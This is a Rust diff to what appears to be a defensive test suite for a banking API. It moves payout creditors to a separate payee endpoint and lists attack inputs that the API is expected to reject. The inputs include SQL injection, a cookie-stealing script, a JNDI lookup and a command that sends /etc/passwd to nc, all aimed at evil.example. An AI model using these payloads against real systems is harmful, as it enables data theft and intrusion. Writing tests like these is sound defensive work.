@@ -48,24 +48,17 @@ pub async fn run(narrator: &mut Narrator, loot: &Loot<'_>) -> Result<()> {
 fn attempts(loot: &Loot<'_>) -> Vec<Attempt> {
     let much = json!({"amount": "9999999.00", "currency": "EUR"});
     let transfer = |reference: &str| json!({"from_account": loot.alice_account, "to_account": loot.bob_account, "amount": much, "reference": reference});
-    let payout = |name: &str, reference: &str| {
-        json!({"from_account": loot.alice_account, "amount": much, "reference": reference,
-            "creditor": {"name": name, "iban": "DE89370400440532013000"}})
-    };
-    // What gets past the edge, the ledger takes for a payout whose IBAN is not sealed, or its own layer WAF for what it is.
+    let payout = |reference: &str| json!({"from_account": loot.alice_account, "amount": much, "payee_id": loot.bob_account, "reference": reference});
+    let payee = |name: &str| json!({"name": name, "iban": "DE89370400440532013000"});
+    // What gets past the edge, the ledger takes for a payee whose IBAN is not sealed, or its own layer WAF for what it is.
     let poor = code::INSUFFICIENT_FUNDS;
-    let (transfers, payouts, accounts) = ("/v1/transfers", "/v1/payouts", "/v1/accounts");
+    let (transfers, accounts) = ("/v1/transfers", "/v1/accounts");
+    let (payees, payouts) = ("/v1/payees", "/v1/payouts");
     let script = "<script>fetch('//evil.example/'+document.cookie)</script>";
     vec![
         (1, "SQL in a transfer's reference", transfers, transfer("x' UNION SELECT password FROM people --"), poor),
-        (2, "Script in a payout's reference", payouts, payout("Bob Baker", script), code::REQUEST_INVALID),
-        (
-            3,
-            "A lookup in a creditor's name",
-            payouts,
-            payout("${jndi:ldap://evil.example/a}", "rent"),
-            code::FIELD_SEALED_REQUIRED,
-        ),
+        (2, "Script in a payout's reference", payouts, payout(script), code::REQUEST_INVALID),
+        (3, "A lookup in a payee's name", payees, payee("${jndi:ldap://evil.example/a}"), code::FIELD_SEALED_REQUIRED),
         (3, "A command in a transfer's reference", transfers, transfer("; cat /etc/passwd | nc evil.example 80"), poor),
         (
             4,
